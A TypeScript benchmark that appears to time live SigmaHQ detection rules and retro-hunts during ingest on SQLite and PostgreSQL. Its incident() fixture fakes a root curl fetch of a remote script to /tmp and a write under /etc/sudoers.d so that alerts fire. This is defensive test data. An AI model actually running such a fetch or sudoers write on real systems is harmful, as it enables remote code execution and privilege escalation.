import { type CompiledRule, compileRule, hunt, loadRules, recordAlerts } from '../src/detect/index.js';
import { ingestBatch } from '../src/ingest/index.js';
import { generateSigningKeyPair, type PofrRecord } from '../src/protocol/index.js';
import {
  type Capabilities,
  postgresCapabilities,
  type Store,
  sqliteCapabilities,
} from '../src/store/index.js';
import { type BenchResult, isMain, median } from './bench-result.js';
import {
  type BenchStore,
  enrollBenchHosts,
  makeBatches,
  postgresStore,
  sqliteStore,
} from './ingest-throughput.js';

/**
 * Detection: the cost of live rules (the bundled SigmaHQ rules evaluated on every batch, in its
 * transaction) as a ratio to ingest without rules, same batches, same run, alternating rounds; then
 * the retro-hunt of every compiled rule over the store that ingest left. Each batch also holds one
 * incident the rules find (curl fetching a script, a file dropped in /etc/sudoers.d), so alerts are
 * written as on a host under attack, not only the no-match path. SQLite, and PostgreSQL when
 * POFR_BENCH_PG_URL (or POFR_TEST_PG_URL) names a server.
 */
const BATCHES = 30;
const ROUNDS = 5;

export function incident(_b: number, t: number, pid: number): PofrRecord[] {
  const p = pid + 1;
  return [
    {
      type: 'process_start',
      t,
      proc: {
        pid: p,
        start_ticks: p * 10,
        start: t,
        ppid: 1,
        parent_start_ticks: null,
        exe: '/usr/bin/curl',
        comm: 'curl',
        argv: ['curl', '-s', 'http://198.51.100.7/x.sh', '-o', '/tmp/x.sh'],
        cwd: '/tmp',
        ruid: 0,
        euid: 0,
        rgid: 0,
        egid: 0,
        source: 'sample',
        observer: false,
      },
    },
    {
      type: 'file_open',
      t: t + 1,
      file: { pid: p, start_ticks: p * 10, fd: 3, path: '/etc/sudoers.d/x', kind: 'file' },
    },
  ];
}

async function withStore<T>(open: () => Promise<BenchStore>, fn: (store: Store) => Promise<T>): Promise<T> {
  const s = await open();
  try {
    return await fn(s.store);
  } finally {
    await s.dispose();
  }
}

async function ingestAll(store: Store, rules: readonly CompiledRule[] | null): Promise<number> {
  const keys = generateSigningKeyPair();
  const hostId = 'bench-detect';
  await enrollBenchHosts(store, [hostId], keys.publicPem);
  const batches = makeBatches(hostId, keys.privatePem, BATCHES, incident);
  const onApplied = rules
    ? async (trx: Parameters<typeof recordAlerts>[0], b: Parameters<typeof recordAlerts>[2]) => {
        await recordAlerts(trx, rules, b);
      }
    : undefined;
  const t0 = process.hrtime.bigint();
  for (const b of batches) {
    const r = await ingestBatch(store, b.bytes, { principal: hostId, onApplied });
    if (r.status !== 'accepted') throw new Error(`bench batch ${b.header.seq} was ${r.status}`);
  }
  return Number(process.hrtime.bigint() - t0) / 1e6;
}

interface EngineFigures {
  readonly plain: number;
  readonly live: number;
  readonly ratio: number;
  readonly huntMs: number;
  readonly rows: number;
  readonly alerts: number;
}

async function measure(
  open: () => Promise<BenchStore>,
  caps: Capabilities,
): Promise<EngineFigures & { rules: number }> {
  const rules = loadRules('bundled')
    .flatMap((l) => ('rule' in l ? [compileRule(l.rule, caps)] : []))
    .filter((c): c is CompiledRule => c.status === 'ok');
  const plain: number[] = [];
  const live: number[] = [];
  let huntMs = 0;
  let rows = 0;
  let alerts = 0;
  for (let i = 0; i < ROUNDS; i++) {
    plain.push(await withStore(open, (s) => ingestAll(s, null)));
    live.push(
      await withStore(open, async (s) => {
        const ms = await ingestAll(s, rules);
        const t0 = process.hrtime.bigint();
        await hunt(s, rules, { limit: 10_000 });
        huntMs = Number(process.hrtime.bigint() - t0) / 1e6;
        const count = async (table: 'processes' | 'alerts') =>
          Number(
            (
              await s.db
                .selectFrom(table)
                .select((eb) => eb.fn.countAll().as('n'))
                .executeTakeFirst()
            )?.n,
          );
        rows = await count('processes');
        alerts = await count('alerts');
        return ms;
      }),
    );
  }
  const ratio = median(live) / median(plain);
  return { plain: median(plain), live: median(live), ratio, huntMs, rows, alerts, rules: rules.length };
}

export async function run(): Promise<BenchResult> {
  const lines: string[] = [];
  const metrics: Record<string, number> = {};
  const report = (engine: string, f: EngineFigures & { rules: number }) => {
    lines.push(
      `${engine}: ${f.rules} bundled rules; ${BATCHES} batches (${f.rows} processes, 6 files and 1 endpoint each, + 1 incident per batch), ${ROUNDS} rounds`,
      `  ingest without rules (baseline): median ${f.plain.toFixed(0)} ms`,
      `  ingest with live rules: median ${f.live.toFixed(0)} ms, ${f.alerts} alerts — ratio ${f.ratio.toFixed(2)}× (goal ≤ 1.3×)`,
      `  retro-hunt of all rules over that store: ${f.huntMs.toFixed(0)} ms`,
    );
    Object.assign(metrics, {
      [`${engine}_plain_ms`]: f.plain,
      [`${engine}_live_ms`]: f.live,
      [`${engine}_ratio`]: f.ratio,
      [`${engine}_hunt_ms`]: f.huntMs,
      [`${engine}_alerts`]: f.alerts,
      rules: f.rules,
    });
  };
  report('sqlite', await measure(sqliteStore, sqliteCapabilities));
  const pgUrl = process.env.POFR_BENCH_PG_URL ?? process.env.POFR_TEST_PG_URL;
  if (pgUrl) report('postgres', await measure(() => postgresStore(pgUrl), postgresCapabilities));
  else lines.push('postgres: skipped (set POFR_BENCH_PG_URL=postgres://… to measure it too)');
  return { name: 'detect-live', lines, metrics };
}

if (isMain(import.meta.url)) {
  const r = await run();
  for (const l of r.lines) console.log(l);
}
